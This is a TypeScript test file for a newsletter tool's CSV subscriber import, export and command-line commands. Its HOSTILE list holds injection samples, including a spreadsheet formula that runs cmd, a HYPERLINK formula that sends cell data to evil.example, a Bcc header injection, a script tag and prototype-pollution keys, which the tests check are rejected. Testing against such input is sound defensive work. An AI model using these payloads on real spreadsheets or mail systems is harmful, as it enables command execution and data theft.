import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FREQUENCIES, WEEKDAYS } from '../../src/core/newsletter.ts';
import { addressKey } from '../../src/newsletter/address.ts';
import { confirm } from '../../src/newsletter/confirm.ts';
import { erase, stop } from '../../src/newsletter/preferences.ts';
import { signUp } from '../../src/newsletter/sign-up.ts';
import { exportSubscribers, importSubscribers } from '../../src/newsletter/subscriber-table.ts';
import { ran } from '../support/in-process.ts';
import { at, CHOICE, type People, people, SECRET, SETTINGS, TOPICS } from './support.ts';

let place: People;
beforeEach(async () => {
  place = await people();
});
afterEach(() => place.remove());

const RULES = { defaults: SETTINGS.defaults, topics: new Set(TOPICS.map(({ slug }) => slug)) };
const take = async (csv: string | Buffer, by = 'a paper list of 2025') => {
  const done = await importSubscribers(Readable.from([csv]), by, { ...place, rules: RULES, language: 'en' });
  return done.ok ? done.value : done.error;
};
const give = async () => {
  const lines: string[] = [];
  for await (const line of exportSubscribers(place.store)) lines.push(line);
  return [lines[0], ...lines.slice(1).sort()].join('');
};
const HEAD = 'email,frequency,weekday,hour,timezone,topics\r\n';

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Cells that spreadsheets, mail programs, browsers or JavaScript would make something of. */
const HOSTILE = [
  "=cmd|'/c calc'!A1",
  '@SUM(1+1)*cmd',
  '=HYPERLINK("https://evil.example/?"&A1)',
  'x\r\nBcc: a@b.example',
  '<script>1</script>',
  '__proto__',
  'constructor',
  'astrology\u202e',
  '\u0000',
  '9'.repeat(5000),
];

describe('importing subscribers', () => {
  it('takes what a table says, and the defaults where it says nothing', async () => {
    const csv = `${HEAD}mia@example.org,daily,,7,Europe/Berlin,"oncology,cardiology"\r\njoe@example.org,,,,,\r\n`;
    expect(await take(csv)).toEqual({ added: 2, already: 0, suppressed: 0, bad: [] });
    expect(await at(place, 'mia@example.org')).toMatchObject({
      choice: {
        frequency: 'daily',
        weekday: 'monday',
        hour: 7,
        timezone: 'Europe/Berlin',
        topics: ['cardiology', 'oncology'],
      },
      consent: { at: '2026-11-20T09:00:00.000Z', way: 'a paper list of 2025', textVersion: 'import' },
    });
    expect((await at(place, 'joe@example.org'))?.choice).toEqual({ ...SETTINGS.defaults, topics: [] });
  });

  it.each([
    ['a byte order mark and bare line feeds', '\ufeffemail\nmia@example.org\n'],
    ['columns in another order, and ones that mean nothing here', 'name,Email\r\nMia,mia@example.org\r\n'],
    ['empty lines', 'email\r\n\r\nmia@example.org\r\n\r\n'],
    ['quotation marks', '"email"\r\n"mia@example.org"\r\n'],
    ['semicolons', 'email;frequency;topics\r\nmia@example.org;daily;cardiology,oncology\r\n'],
    ['tabs', 'email\tfrequency\nmia@example.org\tdaily\n'],
    ['a comma in a cell of a table with semicolons', 'name;email\n"Mia, or Maria";mia@example.org\n'],
    ['carriage returns alone', 'email,frequency\rmia@example.org,daily\r'],
    ['what spreadsheets call Unicode text', utf16('email\tfrequency\r\nmia@example.org\tdaily\r\n')],
  ])('reads a table with %s', async (_, csv) => {
    expect(await take(csv)).toMatchObject({ added: 1, bad: [] });
    expect((await at(place, 'mia@example.org'))?.email).toBe('mia@example.org');
  });

  it('reads a table that comes byte by byte', async () => {
    const bytes = [...Buffer.from('\ufeffemail;hour\r\nмия@пример.рф;7\r\n')].map((byte) =>
      Buffer.from([byte]),
    );
    const done = await importSubscribers(Readable.from(bytes), 'x', {
      ...place,
      rules: RULES,
      language: 'en',
    });
    expect(done).toMatchObject({ value: { added: 1, bad: [] } });
    expect((await at(place, 'мия@пример.рф'))?.choice.hour).toBe(7);
  });

  it('tells every bad line by its number, never its address, and takes the others', async () => {
    const csv = `${HEAD}mia@example.org,,,,,\r\nnobody,,,,,\r\njoe@example.org,hourly,,99,,\r\n"a\nb@example.org",,,,,\r\nann@example.org,,,,,astrology\r\n`;
    const done = await take(csv);
    expect(done).toMatchObject({ added: 1, bad: [{ line: 3 }, { line: 4 }, { line: 6 }, { line: 7 }] });
    expect(JSON.stringify(done)).not.toMatch(/nobody|joe@|ann@/);
  });

  it.each([
    ['address', (cell: string) => `${cell},daily,monday,8,UTC,cardiology`],
    ['frequency', (cell: string) => `mia@example.org,${cell},monday,8,UTC,cardiology`],
    ['weekday', (cell: string) => `mia@example.org,daily,${cell},8,UTC,cardiology`],
    ['hour', (cell: string) => `mia@example.org,daily,monday,${cell},UTC,cardiology`],
    ['time zone', (cell: string) => `mia@example.org,daily,monday,8,${cell},cardiology`],
    ['topic', (cell: string) => `mia@example.org,daily,monday,8,UTC,${cell}`],
  ])('takes nothing that is no %s, and repeats none of it', async (_, line) => {
    const done = await take(`${HEAD}${HOSTILE.map((cell) => line(quoted(cell))).join('\r\n')}\r\n`);
    expect(done).toMatchObject({ added: 0, already: 0, suppressed: 0 });
    expect(typeof done === 'string' ? [] : done.bad).toHaveLength(HOSTILE.length);
    expect(JSON.stringify(done)).not.toMatch(/cmd|HYPERLINK|Bcc|script|proto|astrology/);
    expect(await give()).toBe(HEAD);
  });

  it('can be repeated: nobody is added twice, and what somebody chose since stays', async () => {
    const csv = `${HEAD}mia@example.org,daily,,,,\r\nMIA@example.org,weekly,,,,\r\n`;
    expect(await take(csv)).toMatchObject({ added: 1, already: 1 });
    expect(await take(csv)).toMatchObject({ added: 0, already: 2 });
    expect((await at(place, 'mia@example.org'))?.choice.frequency).toBe('daily');
  });

  it.each([
    ['unsubscribed', (id: string) => stop(id, 'unsubscribed', place)],
    ['bounced', (id: string) => stop(id, 'bounced', place)],
    ['complained', (id: string) => stop(id, 'complained', place)],
    ['was erased', (id: string) => erase(id, place)],
  ])('leaves out who %s, however the address is written', async (_, leave) => {
    const csv = `${HEAD}mia@bücher.example,,,,,\r\n`;
    await take(csv);
    await leave((await at(place, 'mia@bücher.example'))?.id ?? '');
    const again = [
      'mia@bücher.example',
      'MIA@BÜCHER.example',
      'mia@xn--bcher-kva.example',
      "' mia@bücher.example",
    ];
    for (const email of again.slice(0, 3))
      expect(await take(`email\n${email}\n`)).toEqual({ added: 0, already: 0, suppressed: 1, bad: [] });
    expect(await take(`email\n${again.join('\n')}\n`)).toMatchObject({ added: 0, suppressed: 3 });
    expect(await give()).toBe(HEAD);
  });

  it('confirms who had signed up and not confirmed yet', async () => {
    await signUp({ email: 'mia@example.org', choice: CHOICE, language: 'en', consentText: '' }, place);
    expect(await take('email\nmia@example.org\n')).toMatchObject({ added: 1 });
    expect((await at(place, 'mia@example.org'))?.consent?.way).toBe('a paper list of 2025');
  });

  it.each([
    ['has no column email', 'name\nMia\n', 'names no column "email"'],
    ['is no CSV', `email\nmia@example.org\n${'x'.repeat(200_000)}\n`, 'is no CSV from line'],
  ])('says what is wrong with a file that %s', async (_, csv, words) => {
    expect(await take(csv)).toContain(words);
  });

  it('takes 3,000 in batches', async () => {
    const lines = Array.from({ length: 3000 }, (_, n) => `reader${n}@example.org`);
    expect(await take(`email\n${lines.join('\n')}\n`)).toMatchObject({ added: 3000 });
    expect((await give()).split('\r\n')).toHaveLength(3002);
  });
});

describe('exporting subscribers', () => {
  it('gives what an import takes, and nothing that spreadsheets would reckon', async () => {
    const csv = `${HEAD}'+1@example.org,daily,sunday,0,America/New_York,"cardiology,oncology"\r\n'=1+2@example.org,instant,monday,8,UTC,\r\n'@x@example.org`;
    await take(csv);
    const out = await give();
    expect(out.split('\r\n').slice(0, 3)).toEqual([
      HEAD.trim(),
      `'+1@example.org,daily,sunday,0,America/New_York,"cardiology,oncology"`,
      `'=1+2@example.org,instant,monday,8,UTC,`,
    ]);
    expect(await at(place, '+1@example.org')).not.toBeNull();
    for (const cell of out.split(/[,\r\n]+/)) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('leaves out who gets nothing', async () => {
    await signUp({ email: 'new@example.org', choice: CHOICE, language: 'en', consentText: '' }, place);
    await take('email\nmia@example.org\njoe@example.org\n');
    await stop((await at(place, 'joe@example.org'))?.id ?? '', 'unsubscribed', place);
    expect(await give()).toBe(`${HEAD}mia@example.org,weekly,monday,8,UTC,\r\n`);
  });

  it('comes back unchanged over any export and import', async () => {
    const reader = fc.record({
      local: fc.stringMatching(/^['=+\-a-zäжß0-9]{1,12}$/),
      frequency: fc.constantFrom(...FREQUENCIES),
      weekday: fc.constantFrom(...WEEKDAYS),
      hour: fc.integer({ min: 0, max: 23 }),
      timezone: fc.constantFrom('UTC', ...Intl.supportedValuesOf('timeZone')),
      topics: fc.subarray(TOPICS.map(({ slug }) => slug)),
    });
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(reader, { maxLength: 8, selector: ({ local }) => addressKey(`${local}@x.example`) }),
        async (readers) => {
          const [from, to] = [await people(), await people()];
          try {
            const give = async ({ store }: People) => {
              const lines: string[] = [];
              for await (const line of exportSubscribers(store)) lines.push(line);
              return lines.sort().join('');
            };
            for (const { local, ...choice } of readers) {
              const email = `${local}@example.org`;
              await signUp({ email, choice, language: 'en', consentText: '' }, from);
              await confirm(await from.lastToken(), from);
            }
            const csv = await give(from);
            const rules = { ...RULES };
            const lines = csv.split('\r\n').sort((one) => (one.startsWith('email,') ? -1 : 0));
            await importSubscribers(Readable.from([lines.join('\r\n')]), 'x', {
              ...to,
              rules,
              language: 'en',
            });
            expect(await give(to)).toBe(csv);
            const chosen = await Promise.all(readers.map(({ local }) => at(to, `${local}@example.org`)));
            expect(chosen.map((each) => each?.choice)).toEqual(
              readers.map(({ local: _, topics, ...rest }) => ({ ...rest, topics: topics.sort() })),
            );
          } finally {
            await from.remove();
            await to.remove();
          }
        },
      ),
      { numRuns: 8 },
    );
  });
});

describe('the commands', () => {
  const args = async (...more: string[]) => {
    const file = join(place.dir, 'sources.json');
    const newsletter = { from: 'mia@feed.example.org', postalAddress: 'Street 1' };
    const site = { title: 'News', url: 'https://feed.example.org' };
    await writeFile(file, JSON.stringify({ site, newsletter, sources: [] }));
    return ['--config', file, '--data', place.dir, 'newsletter', ...more];
  };
  const env = { MIAS_FEED_SECRET: SECRET };

  it('move subscribers in and out', async () => {
    const csv = join(place.dir, 'readers.csv');
    await writeFile(csv, `${HEAD}mia@example.org,daily,,,,\r\nnobody,,,,,\r\n`);
    const taken = await ran(await args('import', csv, '--confirmed-by', 'a fair'), { env });
    expect(taken.code).toBe(0);
    expect(taken.stdout).toContain('1 subscriber added, 0 there already');
    expect(taken.stderr).toContain(`${csv}:3: An e-mail address has an @`);
    expect(taken.stdout + taken.stderr).not.toContain('mia@example.org');
    const given = await ran(await args('export'), { env });
    expect(given).toEqual({ code: 0, stdout: `${HEAD}mia@example.org,daily,monday,8,UTC,\r\n`, stderr: '' });
  });

  it.each([
    ['without proof of consent', ['import', 'x.csv'], 'The text is kept as proof'],
    ['without a file', ['import', '--confirmed-by', 'x'], 'Use: mias-feed newsletter import'],
    [
      'with a file that is not there',
      ['import', 'none.csv', '--confirmed-by', 'x'],
      "none.csv can't be read",
    ],
    ['without an action', ['frobnicate'], 'Use: mias-feed newsletter'],
  ])('say what is missing %s', async (_, words, message) => {
    const { code, stderr } = await ran(await args(...words), { env });
    expect([code, stderr.includes(message)]).toEqual([2, true]);
  });

  it('say that the secret is too short', async () => {
    const { code, stderr } = await ran(await args('export'), { env: { MIAS_FEED_SECRET: 'short' } });
    expect([code, stderr]).toEqual([1, expect.stringContaining('MIAS_FEED_SECRET is too short')]);
    expect(stderr).not.toContain('"short"');
  });
});
